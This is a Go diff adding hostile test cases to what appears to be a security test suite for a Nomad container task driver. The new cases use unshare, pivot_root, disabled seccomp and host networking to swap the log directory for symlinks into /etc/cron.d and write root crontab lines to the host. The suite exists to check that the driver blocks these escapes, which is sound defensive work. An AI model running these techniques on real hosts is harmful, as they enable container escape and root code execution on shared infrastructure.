@@ -6,6 +6,8 @@ import (
 	"errors"
 	"fmt"
 	"io/fs"
+	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 )
@@ -67,12 +69,68 @@ func rowsOfLogs() (all []attack) {
 			job: job{logs: true}, act: misleadByImage, look: noLinksInLogs,
 		},
 		attack{
+			name: "log-cover-left", tries: "the same, from a user namespace in which the logs are no mount point, without a seccomp profile",
+			looks: "links in alloc/logs",
+			job: job{config: `security_opt = ["seccomp=unconfined", "apparmor=unconfined"]`, logs: true, script: leaveCover + `
+				yes '* * * * * root ` + written + `' | head -c 4000000 >&3`},
+			look: both(ownDirs, collected, noLinksInLogs),
+		},
+		attack{
+			name: "log-cover-handed-over", tries: "the same, by a task of another allocation that it hands its /alloc to, over a socket of the host's network",
+			looks: "links in alloc/logs", job: job{config: `network_mode = "host"`, logs: true}, act: handOver, look: both(ownDirs, collected, noLinksInLogs),
+		},
+		attack{
 			name: "log-pipe-link", tries: "to have the driver write output into /etc, by a link in place of Nomad's pipe",
 			job: job{firstConfig: `volumes = ["..:/a"]`, logs: true, script: `echo ` + written + ` >&3`,
 				first: `mv /a/alloc /a/x; mkdir -p /a/alloc/logs; for s in out err; do ln -s {etc}/cron.d/daily /a/alloc/logs/.app.std$s.fifo; done`},
 		},
 	)
 }
+
+// leaveCover keeps /alloc open in a mount namespace that has none of the container's mounts: nothing there has the logs for a
+// mount point, so that they can be renamed.
+const leaveCover = `exec 9</alloc
+	cat >/local/in <<'END'
+		mkdir -p /m && mount -t tmpfs none /m && cd /m && mkdir bin old proc && cp /bin/busybox bin && mount --rbind /proc proc && pivot_root . old
+		/bin/busybox umount -l /old; cd /; a=/proc/self/fd/9; grep -c . /proc/self/mounts
+		/bin/busybox mv $a/logs $a/x; /bin/busybox mkdir $a/logs
+		for i in 0 1 2 3; do /bin/busybox ln -s {etc}/cron.d/new$i $a/logs/app.stdout.$i; done
+END
+	unshare -Urm /bin/sh /local/in; ls -la /alloc`
+
+// handOver has a second allocation of the same author rename the logs of the first: in its container they are no mount point.
+func handOver(s *scene, in *intruder) error {
+	peer, err := newAllocation(s.dir, "peer")
+	if err != nil {
+		return err
+	}
+	defer os.RemoveAll(peer.dir)
+	pass := filepath.Join(in.alloc.dir, in.job.task, "local", "pass")
+	build := exec.Command("go", "build", "-o", pass, "./testdata/pass")
+	build.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if out, err := build.CombinedOutput(); err != nil {
+		return fmt.Errorf("building the helper: %s", out)
+	}
+	if err := os.Link(pass, filepath.Join(peer.dir, "peer", "local", "pass")); err != nil {
+		return err
+	}
+	task, err := peer.task("peer", "hostile")
+	if err != nil {
+		return err
+	}
+	config := s.plugin.parseTask(s.t, s.expand(in, fmt.Sprintf("image = %q\nnetwork_mode = \"host\"\ncommand = \"/local/pass\"\nargs = [\"take\", %q]", s.stage.baseImage, takeLogs)))
+	if err := task.EncodeConcreteDriverConfig(config); err != nil {
+		return err
+	}
+	if err := within(func() error { _, _, err := s.plugin.StartTask(task); return err }); err != nil {
+		return err
+	}
+	err = in.start(in.job.config, `/local/pass give /alloc || { sleep 1; /local/pass give /alloc; }; ls -la /alloc; yes '* * * * * root `+written+`' | head -c 4000000 >&3`)
+	return errors.Join(err, within(func() error { return s.plugin.DestroyTask(task.ID, true) }))
+}
+
+// takeLogs is what a shell does that has the directory above the logs as descriptor 3.
+const takeLogs = `a=/proc/self/fd/3; mv $a/logs $a/x; mkdir $a/logs; for i in 0 1 2 3; do ln -s {etc}/cron.d/new$i $a/logs/app.stdout.$i; done`
 
 // misleading mounts ../alloc at a link in local/d, which leads to /p. By further links, local/s is then mounted over local/d,
 // and has another directory in the link's place.
